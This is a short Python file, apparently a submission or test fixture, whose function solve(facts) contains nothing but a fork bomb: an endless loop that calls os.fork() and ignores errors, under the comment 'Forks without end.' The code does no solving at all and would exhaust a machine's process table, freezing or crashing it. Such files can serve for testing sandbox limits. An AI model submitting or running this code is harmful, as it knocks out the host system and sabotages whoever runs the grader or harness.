# Forks without end.
import os


def solve(facts):
    while True:
        try:
            os.fork()
        except OSError:
            pass
